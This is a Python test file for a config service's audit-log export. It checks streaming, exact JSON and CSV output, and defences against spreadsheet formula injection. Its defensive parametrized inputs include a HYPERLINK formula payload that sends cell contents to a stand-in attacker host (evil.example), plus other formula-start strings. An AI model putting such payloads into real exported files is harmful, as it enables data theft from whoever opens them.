"""The audit export (issue 10, findings 7 and 10): streamed in pages with bounded memory, the same
bytes as the listing gives, and no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import psycopg
import pytest

from config_service import bootstrap
from config_service.db.urls import libpq_url
from tests.support import ServerProcess, clean_env, unique_id

COLUMNS = ["id", "at", "org_id", "org_uid", "actor", "action", "target_type", "target_id", "details"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def listed(admin: httpx.Client, org_id: str, **params) -> list[dict]:
    """Every event of the org through the paged listing, newest first."""
    out: list[dict] = []
    cursor = None
    while True:
        query = {"limit": 500, **params, **({"cursor": cursor} if cursor else {})}
        page = admin.get(f"/admin/orgs/{org_id}/audit", params=query)
        assert page.status_code == 200, page.text
        out += page.json()["items"]
        cursor = page.json()["next_cursor"]
        if not cursor:
            return out


def expected_json(items: list[dict]) -> bytes:
    return json.dumps(items, separators=(",", ":"), ensure_ascii=False).encode()


def expected_csv(items: list[dict]) -> str:
    """Today's CSV: a header row, then one row per event, `details` as compact JSON, a missing
    value as an empty cell; CRLF line ends (the csv module's default)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(COLUMNS)
    for item in items:
        writer.writerow([
            json.dumps(item[c], separators=(",", ":"), ensure_ascii=False) if c == "details"
            else ("" if item[c] is None else item[c])
            for c in COLUMNS
        ])
    return buffer.getvalue()


def insert_events(db, org_id: str, count: int, detail_bytes: int = 100) -> None:
    """`count` events of the org straight into the log (an action the change feed ignores), with
    text that CSV and JSON must carry exactly: quotes, commas, line breaks, non-ASCII. They belong
    to the org that has the id now (its root's `node_uid`), or to none when no org has it."""
    db.execute(
        """
        INSERT INTO audit_events (org_id, org_uid, actor, action, target_type, target_id, details)
        SELECT %s, (SELECT node_uid FROM org_nodes WHERE org_id = %s AND node_id = %s),
               'admin', 'secrets.read', 'node', 'n' || g,
               jsonb_build_object('reason', 'row ' || g || E' "quoted", comma,\\nline ü ✓', 'pad', repeat('x', %s))
        FROM generate_series(1, %s) AS g
        """,
        (org_id, org_id, org_id, detail_bytes, count),
    )


def test_export_is_the_listing_in_both_formats_across_pages(org, db):
    org.add_node("sre")
    org.patch("sre", {"a": 1}, reason="first")
    insert_events(db, org.org_id, 1234)  # more than two pages of 500
    org.patch("sre", {"a": 2}, reason="last")
    items = listed(org.admin, org.org_id)
    assert len(items) == 1234 + 4

    response = org.admin.get(f"/admin/orgs/{org.org_id}/audit/export", params={"format": "json"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    assert response.content == expected_json(items)

    response = org.admin.get(f"/admin/orgs/{org.org_id}/audit/export", params={"format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert f'filename="audit-{org.org_id}.csv"' in response.headers["content-disposition"]
    assert response.text == expected_csv(items)

    # filters apply to every page
    filtered = listed(org.admin, org.org_id, action="secrets.read")
    response = org.admin.get(
        f"/admin/orgs/{org.org_id}/audit/export", params={"format": "json", "action": "secrets.read"}
    )
    assert response.content == expected_json(filtered) and len(filtered) == 1234


def test_an_empty_export(org):
    response = org.admin.get(f"/admin/orgs/{org.org_id}/audit/export", params={"format": "json", "action": "no.such"})
    assert response.status_code == 200 and response.content == b"[]"
    response = org.admin.get(f"/admin/orgs/{org.org_id}/audit/export", params={"format": "csv", "action": "no.such"})
    assert response.status_code == 200 and response.text == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize("reason", [
    '=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx",
])
def test_no_csv_cell_starts_a_formula(org, db, reason):
    """A reason sits inside the `details` JSON cell (which starts with `{`); the cells that hold
    text on their own (actor, target) come from identifiers the API validates, so the event with
    such text in them is written straight into the log, as a row of another writer could be."""
    org.add_node("sre")
    assert org.patch("sre", {"a": reason}, reason=reason).status_code == 200
    db.execute(
        """
        INSERT INTO audit_events (org_id, org_uid, actor, action, target_type, target_id, details)
        SELECT %s, node_uid, %s, 'secrets.read', 'node', %s, '{}' FROM org_nodes WHERE org_id = %s AND node_id = %s
        """,
        (org.org_id, reason, reason, org.org_id, org.org_id),
    )
    response = org.admin.get(f"/admin/orgs/{org.org_id}/audit/export", params={"format": "csv"})
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in csv.reader(io.StringIO(response.text))][1:]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), (reason, cell)
    written = [row for row in rows if row["action"] == "config.written"]
    assert json.loads(written[0]["details"])["reason"] == reason  # the text itself is kept, exactly
    inserted = next(row for row in rows if row["action"] == "secrets.read")
    assert inserted["actor"] == inserted["target_id"] == "'" + reason  # shown as text, nothing lost


def test_csv_cells_are_neutralised_by_their_first_character():
    from config_service.audit.export import csv_cell

    for start in FORMULA_STARTS:
        assert csv_cell(start + "A1") == "'" + start + "A1"
    for value in ("plain", "1", "{\"reason\":\"=x\"}", "", "a=b", "ü"):
        assert csv_cell(value) == value
    assert csv_cell(None) == "" and csv_cell(42) == 42


def _peak_rss_kib(proc: ServerProcess) -> int:
    status = Path(f"/proc/{proc.proc.pid}/status").read_text()
    return int(next(line for line in status.splitlines() if line.startswith("VmHWM:")).split()[1])


def test_a_large_export_is_streamed_with_bounded_memory(fresh_database, server_keys, tmp_path):
    """60 MB of events exported in each format: the server's peak memory grows by far less
    than the export's size (a whole-file buffer grew it by several times that size). The events
    are written before the server starts, on a database of their own, so that no server's change
    feed reads them (that read, not the export, would then be the peak). No org has the id (the
    events belong to none), so the global admin reads them with `org_uid=all`."""
    bootstrap.upgrade(fresh_database)
    org_id = unique_id("exp")
    with psycopg.connect(libpq_url(fresh_database), autocommit=True) as conn:
        insert_events(conn, org_id, 30_000, detail_bytes=2000)
    env = clean_env() | server_keys | {"CONFIG_SERVICE_ENV": "production", "DATABASE_URL": fresh_database}
    server = ServerProcess(env=env, log_path=tmp_path / "server.log").start()
    headers = {"Authorization": f"Bearer {server_keys['ADMIN_TOKEN']}"}
    try:
        with httpx.Client(base_url=server.api, headers=headers, timeout=120) as admin:
            export = f"/admin/orgs/{org_id}/audit/export"
            warm = admin.get(export, params={"format": "json", "target_id": "n1", "org_uid": "all"})
            assert warm.status_code == 200 and len(warm.json()) == 1
            before = _peak_rss_kib(server)
            sizes = {}
            for fmt in ("json", "csv"):
                with admin.stream("GET", export, params={"format": fmt, "org_uid": "all"}) as response:
                    assert response.status_code == 200
                    sizes[fmt] = sum(len(chunk) for chunk in response.iter_raw())
            grown_kib = _peak_rss_kib(server) - before
        assert min(sizes.values()) > 60_000_000
        assert grown_kib * 1024 < min(sizes.values()) / 4, (grown_kib, sizes)
    finally:
        server.stop()
